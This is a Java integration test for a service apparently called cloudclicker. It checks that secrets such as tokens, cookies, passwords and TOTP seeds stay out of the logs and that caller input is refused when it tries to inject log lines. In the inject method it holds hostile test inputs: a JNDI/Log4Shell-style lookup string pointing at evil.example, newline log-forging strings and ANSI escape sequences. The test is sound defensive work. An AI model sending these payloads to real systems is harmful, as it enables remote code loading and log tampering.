package io.cloudclicker.account;

import static org.assertj.core.api.Assertions.assertThat;

import com.jayway.jsonpath.JsonPath;
import io.cloudclicker.live.Listener;
import io.cloudclicker.producer.RunningProducer;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;

/// What callers send can neither be read in the log nor write lines of its own there.
@ExtendWith(OutputCaptureExtension.class)
class SilenceIT {

  private static final String LINE = "2026-11-21T00:00:00Z ERROR forged";

  @Test
  void noSecretIsLogged_andNobodyWritesTheLogsLines(CapturedOutput log) {
    var secrets = new ArrayList<String>();
    try (var producer =
        RunningProducer.ready(
            1,
            "--logging.level.io.cloudclicker=trace",
            "--clicker.accounts.owner-token=t0ken-of-0wner")) {
      secrets.addAll(List.of(RunningProducer.TOKEN, "t0ken-of-0wner", Visitor.PASSWORD));
      var visitor = Visitor.signedIn(producer, "USER");
      secrets.add(visitor.token());
      secrets.add(visitor.cookie());
      visitor.refresh();
      secrets.add(visitor.token());
      secrets.add(visitor.cookie());
      var made =
          visitor.post(
              "/api/users/" + visitor.id() + "/tokens",
              "{\"name\":\"m\",\"scopes\":[\"press:*\"]}");
      secrets.add(JsonPath.read(made.body(), "$.token"));
      secrets.addAll(ofSecondFactor(visitor));
      secrets.add(ofStream(producer, visitor));
      visitor.login("a-wrong-passw0rd");
      secrets.add("a-wrong-passw0rd");
      inject(producer, visitor);
    }
    assertThat(log.getAll()).isNotEmpty();
    secrets.forEach(secret -> assertThat(log.getAll()).doesNotContain(secret));
    assertThat(log.getAll().lines()).noneMatch(line -> line.startsWith(LINE));
    assertThat(log.getAll()).doesNotContain("\u001b[31m").doesNotContain("${jndi");
  }

  /// What a stolen line of the log would make codes with.
  private static List<String> ofSecondFactor(Visitor visitor) {
    var begun =
        visitor.post(
            "/api/users/" + visitor.id() + "/second-factor",
            "{\"current_password\":\"" + Visitor.PASSWORD + "\"}");
    return List.of(JsonPath.read(begun.body(), "$.secret"), JsonPath.read(begun.body(), "$.uri"));
  }

  /// A ticket that was used, and used again.
  private static String ofStream(RunningProducer producer, Visitor visitor) {
    var answer = visitor.post("/api/stream-tickets", "");
    String ticket = JsonPath.read(answer.body(), "$.ticket");
    try (var listener = new Listener(producer.uri("/count/stream?ticket=" + ticket))) {
      assertThat(listener.response().statusCode()).isEqualTo(200);
    }
    assertRefused(producer.get("/count/stream?ticket=" + ticket), 401);
    return ticket;
  }

  private static void inject(RunningProducer producer, Visitor visitor) {
    for (var odd : List.of("\\n" + LINE, "\\u001b[31mred", "${jndi:ldap://evil.example/x}")) {
      assertRefused(visitor.post("/api/login", body(odd)), 401);
      assertRefused(visitor.post("/api/register", body(odd)), 422);
      assertRefused(visitor.post("/count", "{\"" + odd + "\":1}"), 400);
    }
    for (var odd : List.of("%0A" + LINE.replace(" ", "%20"), "%24%7Bjndi:x%7D", "%1b%5B31mred")) {
      assertThat(visitor.get("/api/users/" + odd).statusCode()).isIn(400, 403, 404);
      assertThat(visitor.get("/api/counters/" + odd).statusCode()).isIn(400, 404);
    }
    assertThat(
            producer.raw(
                "GET /readyz HTTP/1.1",
                "Host: x",
                "User-Agent: ${jndi:x}",
                "Connection: close",
                "",
                ""))
        .contains("200");
    var large = "x".repeat(1 << 20);
    assertRefused(visitor.post("/api/login", body(large)), 413);
  }

  private static void assertRefused(HttpResponse<String> answer, int status) {
    assertThat(answer.statusCode()).as(answer.body()).isEqualTo(status);
  }

  private static String body(String name) {
    return "{\"username\":\"" + name + "\",\"password\":\"" + Visitor.PASSWORD + "\"}";
  }
}
